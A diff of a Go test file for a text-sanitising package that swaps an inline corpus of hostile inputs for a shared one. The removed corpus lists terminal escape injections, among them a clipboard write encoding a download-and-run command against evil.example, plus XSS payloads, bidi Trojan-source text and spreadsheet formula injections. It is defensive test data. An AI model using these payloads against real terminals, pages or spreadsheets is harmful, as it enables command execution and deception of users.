@@ -8,64 +8,11 @@ import (
 	"testing"
 	"unicode"
 	"unicode/utf8"
+
+	"github.com/nbfleet/nbfleet/internal/safetext/safetexttest"
 )
 
-// corpus is text an attacker can put in a notebook's name, description or
-// fail_reason, or a student in a roster cell. Every function is tested
-// against all of it.
-var corpus = []string{
-	"ml101-alice",
-	"Zoë O'Brien",
-	"学生-张伟",
-	"\x1bc",         // terminal reset (RIS)
-	"\x1b[2J\x1b[H", // clear screen, cursor home
-	"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07",        // OSC 52 clipboard write
-	"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", // OSC 8 link
-	"\x9b31m",                  // 8-bit CSI, a lone byte (invalid UTF-8)
-	"\u009b31m",                // C1 CSI, encoded in UTF-8
-	"\u009d0;title\u009c",      // C1 OSC … ST
-	"\u0090qpayload\u009c",     // C1 DCS
-	"ok\rnbfleet: apply done",  // carriage return over the line
-	"ok\nnbfleet: error: fake", // a fake log line
-	"ok\r\n| x | y |",          // a fake Markdown row
-	"x|y\r\n|z|",               // Markdown row injection
-	"evil\u202etxt.exe",        // bidi override (Trojan source)
-	"\u2066admin\u2069",        // bidi isolates
-	"a\u200bb\ufeffc\u2060d",   // zero width space, BOM, word joiner
-	"line\u2028sep\u2029para",  // Unicode line and paragraph separators
-	"tag\U000E0041\U000E007F",  // tag characters
-	"del\x7f",                  // DEL
-	"nul\x00byte",              // NUL
-	"tab\there",                // tab
-	"[click](https://evil.example)",
-	"![img](https://evil.example/x.png)",
-	"<https://evil.example>",
-	"https://evil.example/path?q=1",
-	"www.evil.example",
-	"<img src=x onerror=alert(1)>",
-	"<script>alert(1)</script>",
-	"&lt;b&gt; &amp; &#x3c;",
-	"**bold** _em_ ~~strike~~ `code` ``two``",
-	"`",
-	"a ` b `` c",
-	"```fenced```",
-	"@octocat and @org/team",
-	"fixes #123 and owner/repo#45 and GH-7",
-	":+1: :shipit:",
-	`back\slash \| \\| \`,
-	"=HYPERLINK(\"https://evil.example\",\"click\")",
-	"+cmd|' /C calc'!A0",
-	"-2+3+cmd|' /C calc'!A0",
-	"@SUM(1+1)*cmd|' /C calc'!A0",
-	"  =1+1",
-	"\t=1+1",
-	"\r=1+1",
-	"＝1+1",
-	"",
-	"   ",
-	"\xff\xfe invalid \xc3",
-	"\xef\xbf\xbd literal replacement character",
-}
+var corpus = safetexttest.Corpus
 
 func TestTerminal(t *testing.T) {
 	for _, tc := range []struct{ in, want string }{
